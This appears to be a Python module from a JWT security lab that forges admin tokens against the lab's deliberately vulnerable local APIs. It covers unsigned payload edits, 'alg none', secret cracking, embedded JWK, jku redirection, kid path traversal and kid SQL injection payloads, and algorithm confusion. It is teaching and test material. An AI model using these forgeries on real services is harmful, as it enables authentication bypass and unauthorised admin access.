"""One forgery per mistake of the vulnerable APIs, made as a learner would with the lab's helpers."""

from __future__ import annotations

from collections.abc import Callable

from helpers.lab import forging
from helpers.lab.api import LabService
from helpers.lab.cracking import candidate_secrets, crack_secret
from helpers.lab.forging import AttackerKey, forge
from helpers.lab.issuer import LabIssuer
from helpers.tokens.parts import split_token
from helpers.web.client import send
from helpers.web.server import LocalServer

TUTORIAL_TOKEN = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJrZXkiOiJ2YWx1ZSJ9."
                  "4Nitb2W1HnLMOYJ4S5QV8t5930veeVA-I5ddG2-hhIk")
CHOSEN = "a secret I chose, long enough for HS256"
Forger = Callable[[LabIssuer, dict[str, LabService], AttackerKey, LocalServer], str]


def genuine(issuer: LabIssuer) -> tuple[dict, dict]:
    parts = split_token(issuer.issue())
    return parts.header, {**parts.payload, "role": "admin"}


def edited_payload(issuer, servers, attacker, keys) -> str:
    token = issuer.issue()
    header_part, _, signature = token.split(".")
    return f"{header_part}.{forging.encode_part(genuine(issuer)[1])}.{signature}"


FORGERIES: dict[str, Forger] = {
    "unverified signature": edited_payload,
    "alg none": lambda i, s, a, k: forge(*genuine(i), "none"),
    "weak secret": lambda i, s, a, k: forge(
        {"alg": "HS256", "typ": "JWT"}, genuine(i)[1], "hmac",
        key=crack_secret(TUTORIAL_TOKEN, candidate_secrets())),
    "embedded jwk": lambda i, s, a, k: forge(*genuine(i), "jwk", attacker=a),
    "jku": lambda i, s, a, k: forge(*genuine(i), "jku", attacker=a, jku_url=k.url + "/jwks.json"),
    "kid path": lambda i, s, a, k: forge(
        {"alg": "HS256", "kid": "../public/welcome.txt"}, genuine(i)[1], "hmac",
        key=send("GET", s["kid path"].url + "/welcome.txt").text),
    "kid sql": lambda i, s, a, k: forge(
        {"alg": "HS256", "kid": f"nobody' UNION SELECT '{CHOSEN}"}, genuine(i)[1], "hmac",
        key=CHOSEN),
    "algorithm confusion": lambda i, s, a, k: forge(
        {"alg": "HS256"}, genuine(i)[1], "hmac",
        key=send("GET", s["algorithm confusion"].url + "/public-key.pem").text),
}


def admin_claims_without(issuer: LabIssuer, *names: str) -> dict:
    claims = genuine(issuer)[1]
    return {name: value for name, value in claims.items() if name not in names}
